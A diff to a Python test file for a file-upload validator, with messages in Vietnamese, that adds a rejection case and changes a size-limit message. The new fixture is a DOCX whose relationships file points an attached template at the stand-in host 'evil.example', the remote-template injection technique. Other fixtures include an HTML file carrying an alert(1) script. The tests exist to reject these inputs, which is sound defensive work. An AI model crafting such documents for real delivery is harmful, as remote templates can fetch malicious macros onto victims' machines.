@@ -22,6 +22,12 @@ EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 
 HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
 OLD_OFFICE = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(600)
 HEIC = bytes(4) + b"ftypheic" + bytes(200)
+RELS = "word/_rels/settings.xml.rels"
+TEMPLATE = (
+    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
+    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
+    b'Target="https://evil.example/a.dotm" TargetMode="External"/></Relationships>'
+)
 GOOD = [
     ("giay.pdf", PDF, "application/pdf", 1),
     ("giay.PDF", pdf(3), "application/pdf", 3),
@@ -60,6 +66,7 @@ BAD = [
         zipped({TYPES: b"<x t='ms-word.document.macroEnabled.main+xml'/>"}, "word/document.xml"),
         "có macro",
     ),
+    ("don.docx", zipped({RELS: TEMPLATE}, TYPES, "word/document.xml"), "mẫu từ một địa chỉ bên ngoài"),
     ("bang.xlsx", DOCX, "không phải XLSX"),
     ("bang.xlsx", claiming(XLSX, 200 * 1024 * 1024), "bung ra quá lớn"),
     ("anh.jpg", HTML, "không phải JPG"),
@@ -123,7 +130,7 @@ def test_a_place_takes_only_what_it_says(house: House) -> None:
     assert (rule.accept, rule.said.vi) == (".pdf,.jpg,.jpeg,.png,.webp", "PDF, JPG, PNG hoặc WEBP")
     for content, name, said in (
         (DOCX, "don.docx", "Hãy gửi tệp PDF, JPG, PNG hoặc WEBP"),
-        (PDF + b" " * 600_000, "to.pdf", "lớn hơn 0,5 MB"),
+        (PDF + b" " * 600_000, "to.pdf", "lớn hơn 512 kB"),
     ):
         with pytest.raises(FileError, match=said), house.work() as work:
             files.keep(work, Upload(name, content), NOW, uploaded_by=None, rule=rule)
